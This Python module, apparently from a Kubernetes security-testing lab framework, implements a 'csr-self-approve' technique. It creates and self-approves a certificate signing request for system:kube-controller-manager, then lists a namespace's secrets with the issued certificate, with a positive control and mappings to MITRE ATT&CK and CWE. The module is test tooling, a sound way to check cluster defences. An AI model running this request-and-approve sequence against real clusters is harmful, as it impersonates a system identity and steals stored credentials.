"""Request a certificate for another user through the API, approve the request, and use it.

The attacker needs the rights to create and to approve certificate signing requests. They ask for
a certificate of the user ``system:kube-controller-manager``. This user is in no forbidden group,
so admission accepts the request, and it may read every secret. The certificate stays valid after
the attacker loses the rights that they used. An authorizer that lets only administrators approve
requests stops it.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import TYPE_CHECKING, Any

from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.model import Foothold, Model
from labkit.model.decision import Action
from labkit.techniques._lib.api.access import (
    CHANNEL,
    api_url,
    caller_at,
    in_turn,
    options_at,
    signed_as,
)
from labkit.techniques._lib.api.certificate_requests import (
    CREATE,
    PATH,
    approval_of,
    approve,
    is_signed,
    may_approve,
    new_request,
    signed_certificate,
)
from labkit.techniques._lib.machines.admin import create
from labkit.techniques._lib.machines.reach import Answer, request, run_from
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    NETWORK,
    ROOT_ON_WORKER,
    SECRETS,
    Prediction,
    SentRequest,
    Technique,
    all_of,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

NAME, USER = "labkit-other", "system:kube-controller-manager"
#: The controller manager may list this, because it watches it.
LIST = "/api/v1/namespaces/shop/secrets"
READ = Action("list", "secrets", namespace="shop")


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the caller may create a request and approve it, and who signs it."""
    approved = may_approve(model, caller_at(model.environment, foothold))
    return all_of(approved, is_signed(model.environment))


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the request, its approval, and the list of secrets as the other user."""
    caller = caller_at(model.environment, foothold)
    signed = all_of(may_approve(model, caller), is_signed(model.environment))
    return [
        *in_turn(model, caller, CREATE, approve(NAME)),
        SentRequest(signed_as(USER), READ, signed),
    ]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Create a request, approve it, wait for the certificate, and list secrets with it."""
    secret = true_secret(lab, "shop", "db-credentials", "password")
    options = options_at(lab.environment, foothold)
    evidence = [f"asked for a certificate of {USER}: POST {PATH} at the apiserver"]

    def send(path: str, more: list[str], body: bytes | None = None) -> Answer:
        return request(lab, api_url(lab, path), foothold=foothold, body=body, options=more)

    with (
        leaving(lab, Trace("object", f"{PATH}/{NAME}")),
        new_request(lab, foothold, NAME, USER) as (folder, body),
    ):
        made = send(PATH, options, json.dumps(body).encode())
        if made.refusal:
            return _refused(lab, foothold, made.refusal, evidence, body)
        evidence.append(f"approved it: PUT {PATH}/{NAME}/approval")
        put = [*options, "--request", "PUT"]
        allowed = send(f"{PATH}/{NAME}/approval", put, approval_of(json.loads(made.body)))
        if allowed.refusal:
            evidence[-1] = f"tried to approve it: PUT {PATH}/{NAME}/approval"
            return _refused(lab, foothold, allowed.refusal, evidence)
        certificate = signed_certificate(lab, NAME)
        if run_from(lab, foothold, ["tee", f"{folder}/crt"], stdin=certificate).exit_code:
            raise ProbeError("the certificate could not be written at the foothold")
        found = send(LIST, ["--cert", f"{folder}/crt", "--key", f"{folder}/key"])
    if found.refusal or not secret.found_in(found.body):
        raise ProbeError(f"as {USER}: {found.refusal or 'the secret is not in the list'}")
    evidence.append(f"as {USER}, read: {secret.proof}")
    reason = "HTTP 200, the caller approves its own request"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence))


def _refused(
    lab: Lab,
    foothold: Foothold,
    reason: str,
    evidence: list[str],
    body: dict[str, Any] | None = None,
) -> Verdict:
    """Create and approve the refused request as the administrator: the positive control."""
    if not reason.startswith(("HTTP 401", "HTTP 403")):
        raise ProbeError(f"{TECHNIQUE.name}: inconclusive answer {reason}")
    if body is not None:
        create(lab, PATH, body)
    lab.kubectl("certificate", "approve", NAME)
    signed_certificate(lab, NAME)
    control = "the administrator approves the same request, and the certificate is made"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)


TECHNIQUE = Technique(
    name="csr-self-approve",
    title="Make oneself a certificate of the controller-manager through the API",
    footholds=(NETWORK, ROOT_ON_WORKER),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1098", "T1649"),
    stride=("spoofing", "elevation of privilege"),
    cwe=("CWE-269", "CWE-862"),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/",
        "https://attack.mitre.org/techniques/T1649/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    leaves=("file", "object"),
)
